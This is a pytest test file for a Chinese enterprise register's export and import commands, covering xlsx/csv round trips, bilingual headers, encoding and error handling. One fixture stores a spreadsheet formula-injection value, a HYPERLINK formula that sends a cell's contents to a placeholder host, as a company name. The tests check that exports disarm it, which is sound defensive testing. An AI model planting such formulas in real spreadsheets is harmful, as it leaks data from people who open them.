"""``export-enterprises``: the register as stored goes back out, and comes back in unchanged.

The round trip is the user's whole way, as real processes: ``demo`` fills a store, the export
writes .xlsx or .csv, ``import-enterprises`` reads it into an empty store, and both stores hold
the same register; importing the file again changes nothing.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

import main
import services
from diagnosis.register import credit_code
from diagnosis.register.enterprise import Enterprise
from diagnosis.register.export import COLUMNS, SHEET_NAME, headers
from storage.database import Store
from storage.enterprises import SqliteEnterpriseRepository
from tests.main_process import run_main

REPO_ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://example.invalid/"&B2,"详情")'


def code(region: str, body: str) -> str:
    """A valid credit code: ``91``, the region, an organisation body with its GB 11714 check."""
    check = credit_code.body_check_character(body)
    assert check is not None
    first17 = f"91{region}{body}{check}"
    return first17 + credit_code.check_character(first17)


run_cli = run_main


def register(db: Path) -> dict[str, Enterprise]:
    store = Store(db)
    try:
        repo = SqliteEnterpriseRepository(store)
        return {e.credit_code: e for e in repo.display_rows(repo.ids_by_name()).values()}
    finally:
        store.close()


def put(db: Path, *firms: Enterprise) -> None:
    """Store firms as the app keeps them (the repository, as the editor's save ends)."""
    store = Store(db)
    try:
        SqliteEnterpriseRepository(store).save(list(firms), [])
    finally:
        store.close()


PARTS = Enterprise(
    name="宁波甬辰精密机械有限公司",
    credit_code=code("330206", "MA2H3K4L"),
    district="330206",
    industry="3484",
    cluster="246-EQUIP",
    above_scale=True,
    willing=True,
    employees=186,
    output_value=23456.7,
    tax=812.35,
    land_area=42.5,
    data_year=2024,
    address="宁波市北仑区大港工业城黄山西路 88 号",
    contact_person="周工",
    contact_phone="0574-86123456",
    per_mu_class="B",
    green_stars=3,
)
FORMULA_FIRM = Enterprise(
    name=FORMULA, credit_code=code("330212", "MA2J7N9P"), district="NBHTZ", industry="38"
)


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    db = tmp_path / "demo.sqlite"
    done = run_cli("demo", "--db", str(db), "--enterprises", "60", "--visits", "0", "--json")
    assert done.returncode == 0, done.stderr
    put(db, PARTS, FORMULA_FIRM)
    return db


@pytest.mark.parametrize(("suffix", "lang"), [(".xlsx", "zh"), (".csv", "en")])
def test_export_then_import_into_an_empty_store_gives_the_same_register(
    demo_db: Path, tmp_path: Path, suffix: str, lang: str
) -> None:
    """English names (Beilun District, yes/no) are read back as well as Chinese ones."""
    out = tmp_path / f"register{suffix}"
    args = ("--db", str(demo_db), "--out", str(out), "--json", "--lang", lang)
    done = run_cli("export-enterprises", *args)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {"count": 62, "file": str(out)}

    fresh = tmp_path / "fresh.sqlite"
    first = run_cli("import-enterprises", str(out), "--db", str(fresh), "--json")
    again = run_cli("import-enterprises", str(out), "--db", str(fresh), "--json")

    assert first.returncode == 0, first.stdout + first.stderr
    report = json.loads(first.stdout)
    assert (report["inserted"], report["updated"], report["rejected"]) == (62, 0, [])
    before, after = register(demo_db), register(fresh)
    if suffix == ".csv":
        # CSV has no cell types: a formula-like name keeps the apostrophe that disarms it.
        assert after[FORMULA_FIRM.credit_code].name == "'" + FORMULA
        after[FORMULA_FIRM.credit_code] = FORMULA_FIRM
    assert {c: e.values() for c, e in after.items()} == {c: e.values() for c, e in before.items()}
    second = json.loads(again.stdout)
    assert (second["inserted"], second["updated"], second["unchanged"]) == (0, 0, 62)


def test_json_gives_every_field_as_stored_with_the_division_and_district_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "s.sqlite"
    Store(db).close()
    put(db, PARTS, FORMULA_FIRM)

    assert main.main(["export-enterprises", "--db", str(db), "--json"]) == 0

    out = json.loads(capsys.readouterr().out)
    assert out["count"] == 2
    parts = next(r for r in out["enterprises"] if r["credit_code"] == PARTS.credit_code)
    assert {k: parts[k] for k in PARTS.values() if k != "district"} == {
        k: v for k, v in PARTS.values().items() if k != "district"
    }
    assert parts["id"] == PARTS.id
    assert (parts["industry"], parts["industry_name"]) == ("3484", "机械零部件加工")
    assert (parts["division"], parts["division_name"]) == ("34", "通用设备制造业")
    assert (parts["district_code"], parts["district"], parts["district_kind"]) == (
        "330206",
        "北仑区",
        "district",
    )
    assert (parts["cluster"], parts["cluster_name"]) == ("246-EQUIP", "高端装备")
    zone = next(r for r in out["enterprises"] if r["credit_code"] == FORMULA_FIRM.credit_code)
    assert (zone["district_code"], zone["district_kind"]) == ("NBHTZ", "zone")
    assert zone["employees"] is None and zone["above_scale"] is False


def test_english_names_with_lang_en(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "s.sqlite"
    Store(db).close()
    put(db, PARTS)

    assert main.main(["export-enterprises", "--db", str(db), "--json", "--lang", "en"]) == 0

    (parts,) = json.loads(capsys.readouterr().out)["enterprises"]
    assert parts["division_name"] == "General-purpose machinery"
    assert parts["district"] == "Beilun District"


def test_workbook_is_spreadsheet_safe_with_a_frozen_bilingual_header(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    db, out = tmp_path / "s.sqlite", tmp_path / "r.xlsx"
    Store(db).close()
    put(db, PARTS, FORMULA_FIRM)

    assert main.main(["export-enterprises", "--db", str(db), "--out", str(out)]) == 0

    ws = load_workbook(out)[SHEET_NAME]
    assert [c.value for c in ws[1]] == headers()
    assert ws[1][0].value == "企业名称 (Enterprise name)"
    assert ws.freeze_panes == "C2"
    assert ws.column_dimensions["A"].width == COLUMNS[0].width
    by_code = {row[1].value: row for row in ws.iter_rows(min_row=2)}
    formula = by_code[FORMULA_FIRM.credit_code][0]
    assert formula.data_type == "s" and formula.value == FORMULA  # text, never a formula
    parts = by_code[PARTS.credit_code]
    industry = parts[[c.key for c in COLUMNS].index("industry")]
    assert industry.value == "3484" and industry.data_type == "s"  # never 3484.0
    assert parts[[c.key for c in COLUMNS].index("output_value")].value == 23456.7


def test_csv_is_utf8_with_bom_and_neutralises_formula_text(tmp_path: Path) -> None:
    db, out = tmp_path / "s.sqlite", tmp_path / "r.csv"
    Store(db).close()
    put(db, PARTS, FORMULA_FIRM)

    assert main.main(["export-enterprises", "--db", str(db), "--out", str(out)]) == 0

    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == headers()
    names = {r[0] for r in rows[1:]}
    assert "'" + FORMULA in names and FORMULA not in names
    parts = next(r for r in rows if r[1] == PARTS.credit_code)
    assert parts[2:6] == ["3484", "机械零部件加工", "34", "通用设备制造业"]
    assert parts[6:9] == ["330206", "北仑区", "区"]


def test_summary_without_out_or_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "s.sqlite"
    Store(db).close()
    put(db, PARTS, FORMULA_FIRM)

    assert main.main(["export-enterprises", "--db", str(db), "--lang", "en"]) == 0

    text = capsys.readouterr().out
    assert text.startswith("2 enterprises in the register, 1 above designated size")
    assert "Beilun District: 1" in text


def test_a_store_that_is_missing_or_a_file_that_cannot_be_written_exits_2(
    tmp_path: Path,
) -> None:
    db = tmp_path / "s.sqlite"
    missing = run_cli("export-enterprises", "--db", str(tmp_path / "none.sqlite"))
    assert missing.returncode == 2
    assert "没有这个数据库" in missing.stderr and "Traceback" not in missing.stderr
    assert not (tmp_path / "none.sqlite").exists()

    Store(db).close()
    put(db, PARTS)
    folder = tmp_path / "no" / "such" / "folder" / "r.xlsx"
    unwritable = run_cli(
        "export-enterprises", "--db", str(db), "--out", str(folder), "--lang", "en"
    )
    assert unwritable.returncode == 2
    assert unwritable.stderr.startswith(f"cannot write '{folder}'")
    assert "Traceback" not in unwritable.stderr
    wrong = run_cli("export-enterprises", "--db", str(db), "--out", str(tmp_path / "r.txt"))
    assert wrong.returncode == 2 and "只能导出为 .xlsx 或 .csv" in wrong.stderr


def test_it_reads_beside_the_open_app(tmp_path: Path) -> None:
    db = tmp_path / "s.sqlite"
    Store(db).close()
    put(db, PARTS)
    other = tmp_path / "other.csv"
    other.write_text(f"企业名称,统一社会信用代码\n另一家公司,{FORMULA_FIRM.credit_code}\n", "utf-8")
    app = services.open_store(db, writer="app")  # the app holds the writer lock
    try:
        blocked = run_cli("import-enterprises", str(other), "--db", str(db))
        done = run_cli("export-enterprises", "--db", str(db), "--json")
    finally:
        app.close()

    assert blocked.returncode == 2, blocked.stdout  # a writer is refused: the lock is held
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["count"] == 1
